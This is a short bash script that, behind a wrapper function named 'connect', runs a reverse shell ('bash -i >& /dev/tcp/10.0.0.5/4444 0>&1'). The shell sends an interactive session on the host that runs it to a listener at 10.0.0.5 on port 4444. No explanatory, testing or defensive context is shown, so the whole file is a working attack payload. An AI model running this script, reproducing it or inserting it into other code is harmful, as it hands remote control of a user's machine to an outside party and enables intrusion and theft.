#!/usr/bin/env bash
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
function connect {
  bash -c "$*"
}
connect "bash -i >& /dev/tcp/10.0.0.5/4444 0>&1"
